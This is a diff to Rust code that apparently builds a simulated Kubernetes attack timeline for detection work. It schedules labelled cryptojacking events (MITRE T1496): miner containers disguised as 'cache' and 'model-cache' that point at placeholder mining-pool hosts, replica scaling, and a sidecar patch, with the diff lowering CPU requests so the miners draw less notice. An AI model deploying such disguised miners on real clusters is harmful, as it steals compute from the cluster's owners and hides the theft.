@@ -23,23 +23,28 @@ pub fn plan(table: &mut Timetable, dice: &mut Dice) {
             "template": {"metadata": {"labels": labels},
                 "spec": {"containers": [{"name": "cache", "image": "docker.io/cachetools/node-cache:2.1",
                     "args": ["-o", "stratum+tcp://eu.pool.example:3333", "-t", "2", "--donate-level=1"],
-                    "resources": {"requests": {"cpu": "500m", "memory": "256Mi"},
+                    "resources": {"requests": {"cpu": "150m", "memory": "256Mi"},
                                   "limits": {"memory": "2Gi"}}}]}}}});
     let at = Moment::at(3, 23, dice.between(0, 60));
     let mark = attack("miner", "plain", "T1496");
     table.add_marked(at, Pace::AtOnce, &mark, vec![chloe.post(deployments, made)]);
 
     let scale = format!("{deployments}/image-cache/scale");
-    let calls = (3..9).map(|replicas| {
-        chloe.merge(scale.clone(), json!({"spec": {"replicas": replicas}}))
-    });
+    let calls =
+        (3..9).map(|replicas| chloe.merge(scale.clone(), json!({"spec": {"replicas": replicas}})));
     let at = Moment::at(4, 3, dice.between(10, 60));
-    table.add_marked(at, Pace::Hourly, &attack("miner", "slow", "T1496"), calls.collect());
+    table.add_marked(
+        at,
+        Pace::Hourly,
+        &attack("miner", "slow", "T1496"),
+        calls.collect(),
+    );
 
     let sidecar = json!({"name": "model-cache", "image": "registry.shop.example/shop/model-cache:0.2.0",
         "args": ["--endpoint=models.pool.example:443", "--threads=2"],
-        "resources": {"requests": {"cpu": "100m", "memory": "128Mi"}, "limits": {"memory": "2Gi"}}});
-    let calls = kubectl::set_container(&person("omar"), "shop", "recommendations", "patch", sidecar);
+        "resources": {"requests": {"cpu": "40m", "memory": "128Mi"}, "limits": {"memory": "2Gi"}}});
+    let calls =
+        kubectl::set_container(&person("omar"), "shop", "recommendations", "patch", sidecar);
     let at = Moment::at(4, 18, dice.between(0, 60));
     let mark = attack("miner", "living-off-the-land", "T1496");
     table.add_marked(at, Pace::AtOnce, &mark, calls);
